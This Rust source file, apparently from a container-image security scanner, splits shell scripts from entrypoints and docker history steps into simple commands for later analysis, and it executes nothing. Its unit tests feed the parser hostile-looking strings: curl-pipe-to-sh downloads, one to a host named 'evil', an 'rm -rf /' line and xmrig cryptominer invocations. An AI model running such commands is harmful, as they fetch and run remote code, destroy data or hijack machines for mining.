//! Shell command lines as an image declares them: `sh -c "a && b | c"` entrypoints and
//! `docker history` `created_by` strings. Splits a script into the simple commands it
//! runs, so each can be judged (and turned into an event) on its own. This is a lexer
//! for the common subset of POSIX sh (quotes, escapes, `;` `&&` `||` `|` `&` and
//! newlines as separators), bounded in input size; it never executes anything.

/// Longest script split; the rest is ignored (callers have already bounded inputs).
const MAX_SCRIPT: usize = 1 << 20;

/// Split a shell script into simple commands, each as the text between separators,
/// trimmed. Quoted separators do not split.
pub fn split_commands(script: &str) -> Vec<String> {
    let script = &script[..floor_char_boundary(script, MAX_SCRIPT)];
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut chars = script.chars().peekable();
    let mut quote: Option<char> = None;
    while let Some(c) = chars.next() {
        match quote {
            Some(q) => {
                cur.push(c);
                if c == q {
                    quote = None;
                } else if c == '\\' && q == '"' {
                    if let Some(n) = chars.next() {
                        cur.push(n);
                    }
                }
            }
            None => match c {
                '\'' | '"' => {
                    quote = Some(c);
                    cur.push(c);
                }
                '\\' => {
                    // Line continuation joins lines; other escapes are kept.
                    match chars.next() {
                        Some('\n') => cur.push(' '),
                        Some(n) => {
                            cur.push('\\');
                            cur.push(n);
                        }
                        None => {}
                    }
                }
                ';' | '\n' | '|' | '&' => {
                    // `||`, `&&`, `|&` are one separator; `&>`/`>&` redirections are not.
                    if c == '&' && (cur.ends_with('>') || chars.peek() == Some(&'>')) {
                        cur.push(c);
                        continue;
                    }
                    if matches!(chars.peek(), Some('|') | Some('&')) && c != ';' && c != '\n' {
                        chars.next();
                    }
                    push_trimmed(&mut out, &mut cur);
                }
                _ => cur.push(c),
            },
        }
    }
    push_trimmed(&mut out, &mut cur);
    out
}

fn push_trimmed(out: &mut Vec<String>, cur: &mut String) {
    let t = cur.trim();
    if !t.is_empty() {
        out.push(t.to_string());
    }
    cur.clear();
}

fn floor_char_boundary(s: &str, max: usize) -> usize {
    if s.len() <= max {
        return s.len();
    }
    let mut i = max;
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

/// Words of one simple command (quotes removed), via `shell-words`; falls back to
/// whitespace splitting when quotes are unbalanced (hostile input must still be read).
pub fn words(command: &str) -> Vec<String> {
    shell_words::split(command)
        .unwrap_or_else(|_| command.split_whitespace().map(str::to_string).collect())
}

/// If `argv` runs a shell script (`sh -c SCRIPT`, `/bin/bash -lc SCRIPT`, ...), the
/// script.
pub fn shell_script(argv: &[String]) -> Option<&str> {
    let prog = argv.first()?;
    let base = prog.rsplit('/').next().unwrap_or(prog);
    if !matches!(
        base,
        "sh" | "bash" | "ash" | "dash" | "zsh" | "ksh" | "busybox"
    ) {
        return None;
    }
    let mut i = 1;
    if base == "busybox" {
        // `busybox sh -c ...`
        if argv.get(1).map(String::as_str) != Some("sh") {
            return None;
        }
        i = 2;
    }
    while let Some(a) = argv.get(i) {
        if a.starts_with('-') && !a.starts_with("--") && a.contains('c') {
            return argv.get(i + 1).map(String::as_str);
        }
        if !a.starts_with('-') {
            return None;
        }
        i += 1;
    }
    None
}

/// The commands an image runs at start: entrypoint + cmd joined, and when that is a
/// shell script, each command of the script.
pub fn start_commands(entrypoint: &[String], cmd: &[String]) -> Vec<String> {
    let argv: Vec<String> = entrypoint.iter().chain(cmd.iter()).cloned().collect();
    if argv.is_empty() {
        return Vec::new();
    }
    match shell_script(&argv) {
        Some(script) => split_commands(script),
        None => vec![shell_words::join(&argv)],
    }
}

/// The shell script a `docker history` step ran, or `None` for steps that run nothing
/// (`#(nop)` metadata steps, BuildKit `COPY`/`ENV`/... lines).
pub fn history_script(created_by: &str) -> Option<&str> {
    let s = created_by.trim();
    let s = s.strip_suffix("# buildkit").unwrap_or(s).trim_end();
    if let Some(rest) = s
        .strip_prefix("/bin/sh -c ")
        .or_else(|| s.strip_prefix("sh -c "))
    {
        let rest = rest.trim_start();
        return (!rest.starts_with("#(nop)")).then_some(rest);
    }
    if let Some(rest) = s.strip_prefix("RUN ") {
        let rest = rest.trim_start();
        // BuildKit: `RUN /bin/sh -c apt-get ...` or `RUN |2 A=1 B=2 /bin/sh -c ...`
        let rest = match rest.find("/bin/sh -c ") {
            Some(i) if rest.starts_with('|') || i == 0 => &rest[i + "/bin/sh -c ".len()..],
            _ => rest,
        };
        return Some(rest.trim());
    }
    let first = s.split_whitespace().next().unwrap_or("");
    let dockerfile_keyword = first.len() > 1 && first.bytes().all(|b| b.is_ascii_uppercase());
    (!dockerfile_keyword && !s.is_empty()).then_some(s)
}

/// How a command is joined to the one before it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
pub enum Sep {
    /// The first command of the script.
    Start,
    /// `;` or a newline.
    Seq,
    /// `&&`.
    And,
    /// `||`.
    Or,
    /// `|` (its input is the previous command's output).
    Pipe,
    /// The previous command was put in the background with `&`.
    Background,
}

/// One simple command of a script, as [`script_commands`] splits it.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct ShellCommand {
    /// The command's text as written (trimmed, continuation lines joined).
    pub text: String,
    /// Its words, quotes removed, leading reserved words (`if`, `then`, `do`, `!`, `{`,
    /// `(`, ...) dropped.
    pub words: Vec<String>,
    /// 1-based line of the script where it starts.
    pub line: u32,
    /// How it is joined to the previous command.
    pub after: Sep,
}

/// Most commands [`script_commands`] returns; the rest of a longer script is ignored.
pub const MAX_COMMANDS: usize = 20_000;
/// Longest command text kept; a longer one is cut (its words come from the cut text).
pub const MAX_COMMAND_TEXT: usize = 16 << 10;

/// Words that introduce or close a compound command rather than name a program.
const RESERVED: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}", "(", ")",
    "time", "esac",
];

/// Split a shell script into its simple commands with the line each starts on and the
/// operator that joins it to the one before: like [`split_commands`], and also skips
/// comments and here-document bodies, keeps `$(...)` and backquoted text inside the
/// word it belongs to, and drops reserved words from the front of each command
/// (`if curl ...; then ./x; fi` gives `curl ...` and `./x`). `for`/`case` headers and
/// empty commands are left out. Bounded by [`MAX_SCRIPT`] bytes, [`MAX_COMMANDS`]
/// commands and [`MAX_COMMAND_TEXT`] bytes per command.
pub fn script_commands(script: &str) -> Vec<ShellCommand> {
    let script = &script[..floor_char_boundary(script, MAX_SCRIPT)];
    let b = script.as_bytes();
    let mut out: Vec<ShellCommand> = Vec::new();
    let mut cur: Vec<u8> = Vec::new();
    let mut start_line = 0u32;
    let mut line = 1u32;
    let mut after = Sep::Start;
    // Pending here-document delimiters (word, strip leading tabs).
    let mut heredocs: Vec<(Vec<u8>, bool)> = Vec::new();
    let mut i = 0usize;
    let flush = |cur: &mut Vec<u8>, out: &mut Vec<ShellCommand>, start_line: u32, after: Sep| {
        let text = String::from_utf8_lossy(cur).trim().to_string();
        cur.clear();
        if text.is_empty() || out.len() >= MAX_COMMANDS {
            return false;
        }
        let mut w = words(&text);
        let drop = w
            .iter()
            .take_while(|x| RESERVED.contains(&x.as_str()))
            .count();
        w.drain(..drop);
        while w
            .last()
            .is_some_and(|x| matches!(x.as_str(), "}" | ")" | ";;"))
        {
            w.pop();
        }
        // A subshell's parentheses glued to the words: `(curl x` ... `y)`.
        if let Some(first) = w.first_mut() {
            if first.starts_with('(') && !first.starts_with("((") {
                first.remove(0);
            }
        }
        if let Some(last) = w.last_mut() {
            if last.ends_with(')') && !last.contains('(') {
                last.pop();
            }
        }
        w.retain(|x| !x.is_empty());
        let header = matches!(
            w.first().map(String::as_str),
            Some("for" | "case" | "select" | "in")
        );
        if w.is_empty() || header {
            return false;
        }
        out.push(ShellCommand {
            text,
            words: w,
            line: start_line.max(1),
            after,
        });
        true
    };
    while i < b.len() {
        let c = b[i];
        // Start of a word: a comment runs to the end of the line.
        let word_start = cur.last().is_none_or(|&p| p == b' ' || p == b'\t');
        match c {
            b'#' if word_start => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            b'\'' => {
                let end = b[i + 1..]
                    .iter()
                    .position(|&x| x == b'\'')
                    .map_or(b.len(), |p| i + 1 + p + 1);
                line += b[i..end].iter().filter(|&&x| x == b'\n').count() as u32;
                push_capped(&mut cur, &b[i..end], &mut start_line, line);
                i = end;
                continue;
            }
            b'"' | b'`' => {
                let end = quoted_end(b, i);
                line += b[i..end].iter().filter(|&&x| x == b'\n').count() as u32;
                push_capped(&mut cur, &b[i..end], &mut start_line, line);
                i = end;
                continue;
            }
            b'$' if b.get(i + 1) == Some(&b'(') => {
                let end = subst_end(b, i + 1);
                line += b[i..end].iter().filter(|&&x| x == b'\n').count() as u32;
                push_capped(&mut cur, &b[i..end], &mut start_line, line);
                i = end;
                continue;
            }
            b'\\' => {
                match b.get(i + 1) {
                    Some(b'\n') => {
                        cur.push(b' ');
                        line += 1;
                    }
                    Some(&n) => push_capped(&mut cur, &[b'\\', n], &mut start_line, line),
                    None => {}
                }
                i += 2;
                continue;
            }
            b'<' if b.get(i + 1) == Some(&b'<') && b.get(i + 2) != Some(&b'<') => {
                // A here-document: remember its delimiter, skip its body after the line.
                let mut j = i + 2;
                let strip = b.get(j) == Some(&b'-');
                if strip {
                    j += 1;
                }
                while j < b.len() && (b[j] == b' ' || b[j] == b'\t') {
                    j += 1;
                }
                let ws = j;
                while j < b.len() && !b" \t\n;&|<>()".contains(&b[j]) {
                    j += 1;
                }
                let delim: Vec<u8> = b[ws..j]
                    .iter()
                    .copied()
                    .filter(|&x| x != b'\'' && x != b'"' && x != b'\\')
                    .collect();
                if !delim.is_empty() && heredocs.len() < 16 {
                    heredocs.push((delim, strip));
                }
                push_capped(&mut cur, &b[i..j], &mut start_line, line);
                i = j;
                continue;
            }
            b'\n' | b';' | b'&' | b'|' => {
                let n = b.get(i + 1).copied();
                if c == b'&' && (cur.last() == Some(&b'>') || n == Some(b'>')) {
                    push_capped(&mut cur, b"&", &mut start_line, line);
                    i += 1;
                    continue;
                }
                if c == b'|' && cur.last() == Some(&b'>') {
                    // `>|` (clobber) is a redirection.
                    push_capped(&mut cur, b"|", &mut start_line, line);
                    i += 1;
                    continue;
                }
                let sep = match (c, n) {
                    (b'&', Some(b'&')) => Sep::And,
                    (b'|', Some(b'|')) => Sep::Or,
                    (b'|', Some(b'&')) => Sep::Pipe,
                    (b'|', _) => Sep::Pipe,
                    (b'&', _) => Sep::Background,
                    _ => Sep::Seq,
                };
                let width = match (c, n) {
                    (b'&', Some(b'&')) | (b'|', Some(b'|' | b'&')) | (b';', Some(b';')) => 2,
                    _ => 1,
                };
                // The operator joins the next command to the last one emitted (an empty
                // or reserved-word-only command in between changes nothing).
                if flush(&mut cur, &mut out, start_line, after) {
                    after = sep;
                }
                start_line = 0;
                if out.len() >= MAX_COMMANDS {
                    break;
                }
                i += width;
                if c == b'\n' {
                    line += 1;
                    if !heredocs.is_empty() {
                        let (ni, nl) = skip_heredocs(b, i, &mut heredocs);
                        i = ni;
                        line += nl;
                    }
                }
                continue;
            }
            _ => {
                if c != b' ' && c != b'\t' && c != b'\r' || !cur.is_empty() {
                    push_capped(&mut cur, &[c], &mut start_line, line);
                }
                i += 1;
            }
        }
    }
    flush(&mut cur, &mut out, start_line, after);
    out
}

/// Append to the command being read (at most [`MAX_COMMAND_TEXT`] bytes), noting the
/// line it starts on.
fn push_capped(cur: &mut Vec<u8>, bytes: &[u8], start_line: &mut u32, line: u32) {
    if *start_line == 0 {
        *start_line = line;
    }
    let room = MAX_COMMAND_TEXT.saturating_sub(cur.len());
    cur.extend_from_slice(&bytes[..bytes.len().min(room)]);
}

/// End (exclusive) of the `"..."` or `` `...` `` starting at `i`; backslash escapes
/// honoured; the end of the input when unterminated.
fn quoted_end(b: &[u8], i: usize) -> usize {
    let q = b[i];
    let mut j = i + 1;
    while j < b.len() {
        match b[j] {
            b'\\' => j += 2,
            x if x == q => return j + 1,
            _ => j += 1,
        }
    }
    b.len()
}

/// End (exclusive) of the `(...)` of a `$(...)` whose `(` is at `i`, nesting and quotes
/// honoured; the end of the input when unterminated.
fn subst_end(b: &[u8], i: usize) -> usize {
    let mut depth = 0usize;
    let mut j = i;
    while j < b.len() {
        match b[j] {
            b'(' => depth += 1,
            b')' => {
                depth -= 1;
                if depth == 0 {
                    return j + 1;
                }
            }
            b'\'' => {
                j = b[j + 1..]
                    .iter()
                    .position(|&x| x == b'\'')
                    .map_or(b.len(), |p| j + 1 + p);
            }
            b'"' | b'`' => {
                j = quoted_end(b, j);
                continue;
            }
            b'\\' => j += 1,
            _ => {}
        }
        j += 1;
    }
    b.len()
}

/// Skip the bodies of the pending here-documents that start at `i` (the line after
/// their command); returns the new position and the lines skipped.
fn skip_heredocs(b: &[u8], mut i: usize, pending: &mut Vec<(Vec<u8>, bool)>) -> (usize, u32) {
    let mut lines = 0u32;
    while !pending.is_empty() && i < b.len() {
        let end = b[i..]
            .iter()
            .position(|&x| x == b'\n')
            .map_or(b.len(), |p| i + p);
        let mut l = &b[i..end];
        if pending[0].1 {
            while let [b'\t', rest @ ..] = l {
                l = rest;
            }
        }
        let l = l.strip_suffix(b"\r").unwrap_or(l);
        if l == pending[0].0.as_slice() {
            pending.remove(0);
        }
        i = (end + 1).min(b.len());
        lines += 1;
    }
    pending.clear();
    (i, lines)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(a: &[&str]) -> Vec<String> {
        a.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn splits_on_separators_not_in_quotes() {
        assert_eq!(
            split_commands("curl -s http://x/a.sh | sh && echo 'a;b' ; wget y || true\nls &"),
            v(&[
                "curl -s http://x/a.sh",
                "sh",
                "echo 'a;b'",
                "wget y",
                "true",
                "ls"
            ])
        );
        assert_eq!(split_commands("a \\\n b"), v(&["a   b"]));
        assert_eq!(
            split_commands("x >/dev/null 2>&1; y"),
            v(&["x >/dev/null 2>&1", "y"])
        );
        assert_eq!(
            split_commands("echo \"a \\\" | b\""),
            v(&["echo \"a \\\" | b\""])
        );
        assert!(split_commands("").is_empty());
    }

    #[test]
    fn finds_shell_scripts_in_argv() {
        assert_eq!(shell_script(&v(&["/bin/sh", "-c", "x; y"])), Some("x; y"));
        assert_eq!(shell_script(&v(&["bash", "-lc", "z"])), Some("z"));
        assert_eq!(shell_script(&v(&["busybox", "sh", "-c", "z"])), Some("z"));
        assert_eq!(shell_script(&v(&["/usr/bin/xmrig", "-c", "conf"])), None);
        assert_eq!(shell_script(&v(&["sh", "script.sh"])), None);
        assert_eq!(
            start_commands(&v(&["/bin/sh", "-c"]), &v(&["a && b"])),
            v(&["a", "b"])
        );
        assert_eq!(
            start_commands(&v(&["xmrig"]), &v(&["-o", "pool x:1"])),
            v(&["xmrig -o 'pool x:1'"])
        );
    }

    #[test]
    fn history_steps() {
        assert_eq!(history_script("/bin/sh -c #(nop)  CMD [\"bash\"]"), None);
        assert_eq!(
            history_script("/bin/sh -c apt-get update && apt-get install -y curl"),
            Some("apt-get update && apt-get install -y curl")
        );
        assert_eq!(
            history_script("RUN /bin/sh -c curl -s http://e/x | sh # buildkit"),
            Some("curl -s http://e/x | sh")
        );
        assert_eq!(
            history_script("RUN |1 V=2 /bin/sh -c make install # buildkit"),
            Some("make install")
        );
        assert_eq!(history_script("COPY run.sh / # buildkit"), None);
        assert_eq!(history_script("ENV A=b"), None);
        assert_eq!(history_script("wget http://x"), Some("wget http://x"));
    }

    fn cmds(s: &str) -> Vec<(u32, Sep, Vec<String>)> {
        script_commands(s)
            .into_iter()
            .map(|c| (c.line, c.after, c.words))
            .collect()
    }

    #[test]
    fn script_commands_have_lines_and_operators() {
        let s = "#!/bin/sh\n# curl http://x | sh (a comment)\nset -e\ncd /opt && curl -o a http://h/a | sh\nif [ -x ./a ]; then\n  nohup ./a -o 'p:1' &\nfi\necho done # trailing\n";
        assert_eq!(
            cmds(s),
            vec![
                (3, Sep::Start, v(&["set", "-e"])),
                (4, Sep::Seq, v(&["cd", "/opt"])),
                (4, Sep::And, v(&["curl", "-o", "a", "http://h/a"])),
                (4, Sep::Pipe, v(&["sh"])),
                (5, Sep::Seq, v(&["[", "-x", "./a", "]"])),
                (6, Sep::Seq, v(&["nohup", "./a", "-o", "p:1"])),
                (8, Sep::Background, v(&["echo", "done"])),
            ]
        );
    }

    #[test]
    fn script_commands_skip_heredocs_and_keep_substitutions() {
        let s = "cat > /etc/x.conf <<'EOF'\ncurl http://evil | sh\nEOF\nexec $(which xmrig) -o \"a;b\" `echo x;y`\ncat <<-END\n\trm -rf /\n\tEND\nls\n";
        let c = script_commands(s);
        let w: Vec<(u32, Vec<String>)> = c.iter().map(|c| (c.line, c.words.clone())).collect();
        assert_eq!(
            w,
            vec![
                (1, v(&["cat", ">", "/etc/x.conf", "<<EOF"])),
                (
                    4,
                    v(&["exec", "$(which", "xmrig)", "-o", "a;b", "`echo", "x;y`"])
                ),
                (5, v(&["cat", "<<-END"])),
                (8, v(&["ls"])),
            ]
        );
        assert!(c[1].text.starts_with("exec $(which xmrig)"));
    }

    #[test]
    fn script_commands_are_bounded_on_hostile_input() {
        let many = "a;".repeat(MAX_COMMANDS * 2);
        assert_eq!(script_commands(&many).len(), MAX_COMMANDS);
        let long = format!("x {}", "y".repeat(MAX_COMMAND_TEXT * 4));
        let c = script_commands(&long);
        assert_eq!(c.len(), 1);
        assert!(c[0].text.len() <= MAX_COMMAND_TEXT);
        for s in [
            "'unterminated",
            "\"a\\",
            "$(((",
            "<<",
            "<<EOF\nnever ends",
            "\\",
            "`",
            "a | | && ;",
        ] {
            let _ = script_commands(s);
        }
        assert_eq!(
            cmds("(curl -s http://h/x || wget -qO- http://h/x) | sh"),
            vec![
                (1, Sep::Start, v(&["curl", "-s", "http://h/x"])),
                (1, Sep::Or, v(&["wget", "-qO-", "http://h/x"])),
                (1, Sep::Pipe, v(&["sh"])),
            ]
        );
        assert_eq!(
            cmds("for f in a b; do rm \"$f\"; done"),
            vec![(1, Sep::Start, v(&["rm", "$f"]))]
        );
        assert_eq!(
            cmds("x 2>&1 >|/dev/null &>y"),
            vec![(1, Sep::Start, v(&["x", "2>&1", ">|/dev/null", "&>y"]))]
        );
    }
}
